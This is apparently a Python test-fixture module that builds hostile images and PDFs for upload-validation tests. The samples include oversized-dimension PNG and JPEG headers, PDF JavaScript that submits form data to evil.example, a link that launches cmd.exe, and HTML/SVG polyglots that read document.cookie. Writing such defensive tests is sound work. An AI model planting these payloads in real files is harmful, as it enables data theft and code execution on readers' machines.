"""Hostile pictures and documents built by the tests themselves (nothing downloaded, nothing stored)."""

import io
import struct
import zlib


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width: int, height: int) -> bytes:
    """A tiny PNG whose header declares ``width`` x ``height`` RGBA pixels (about 68 bytes)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 16))
        + _chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int, *, truncate: bool = True) -> bytes:
    """A real small JPEG whose frame header is patched to declare ``width`` x ``height``, cut short."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 30, 30)).save(out, "JPEG", quality=90)
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    if truncate:
        sos = data.index(b"\xff\xda")
        data = data[: sos + 20]
    return bytes(data)


def white_picture(width: int, height: int, fmt: str = "PNG") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("L", (width, height), 255).save(out, fmt)
    return out.getvalue()


def png_cut(width: int, height: int) -> bytes:
    """A real PNG of noise (so that it does not compress to nothing), cut in the middle of its data."""
    import os

    from PIL import Image

    out = io.BytesIO()
    Image.frombytes("L", (width, height), os.urandom(width * height)).save(out, "PNG")
    data = out.getvalue()
    return data[: len(data) // 2]


# PDF documents ---------------------------------------------------------------------------------


def _written(writer) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _blank_writer():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def _action(kind: str, **entries: str):
    """A PDF action dictionary: /S ``kind`` (/JavaScript, /Launch) and its text entries (``JS=``, ``F=``)."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    texts = {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **texts})


def pdf_with_javascript_open_action() -> bytes:
    """A one-page PDF that runs JavaScript when opened (pypdf's writer: /OpenAction + names tree)."""
    from pypdf.actions import JavaScript

    writer = _blank_writer()
    writer.add_open_action(JavaScript("app.alert('pwned');"))
    return _written(writer)


def pdf_with_hidden_open_action() -> bytes:
    """JavaScript only in /OpenAction (no names tree), stored as an indirect object."""
    from pypdf.generic import NameObject

    writer = _blank_writer()
    action = _action("/JavaScript", JS="this.submitForm('https://evil.example');")
    action[NameObject("/Type")] = NameObject("/Action")
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _written(writer)


def pdf_with_launch_link() -> bytes:
    """A link annotation on the page whose action launches a program."""
    from pypdf.generic import ArrayObject, DictionaryObject, FloatObject, NameObject

    writer = _blank_writer()
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)]),
            NameObject("/A"): _action("/Launch", F="cmd.exe"),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return _written(writer)


def pdf_with_page_additional_action() -> bytes:
    """JavaScript run when the page opens (/AA /O on the page)."""
    from pypdf.generic import DictionaryObject, NameObject

    writer = _blank_writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")})
    return _written(writer)


def encrypted_pdf() -> bytes:
    writer = _blank_writer()
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


def html_polyglot() -> bytes:
    """An HTML page that a browser runs, with a real PDF after it (``%PDF-`` within the first KB)."""
    from tests.factories.associations import make_pdf_bytes

    return b"<html><body><script>alert(document.cookie)</script><!--\n" + make_pdf_bytes() + b"\n-->"


def svg_polyglot() -> bytes:
    from tests.factories.associations import make_pdf_bytes

    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><!--\n' + make_pdf_bytes() + b"\n--></svg>"


def truncated_pdf() -> bytes:
    from tests.factories.associations import make_pdf_bytes

    data = make_pdf_bytes()
    return data[: len(data) // 3]


def garbage_pdf() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8


HOSTILE_PDFS = {
    "html-polyglot": (html_polyglot, "n'est pas un PDF"),
    "svg-polyglot": (svg_polyglot, "n'est pas un PDF"),
    "javascript-open-action": (pdf_with_javascript_open_action, "contenu actif"),
    "javascript-hidden-open-action": (pdf_with_hidden_open_action, "contenu actif"),
    "launch-link": (pdf_with_launch_link, "contenu actif"),
    "page-open-javascript": (pdf_with_page_additional_action, "contenu actif"),
    "encrypted": (encrypted_pdf, "chiffré"),
    "truncated": (truncated_pdf, "illisible"),
    "garbage": (garbage_pdf, "illisible"),
}
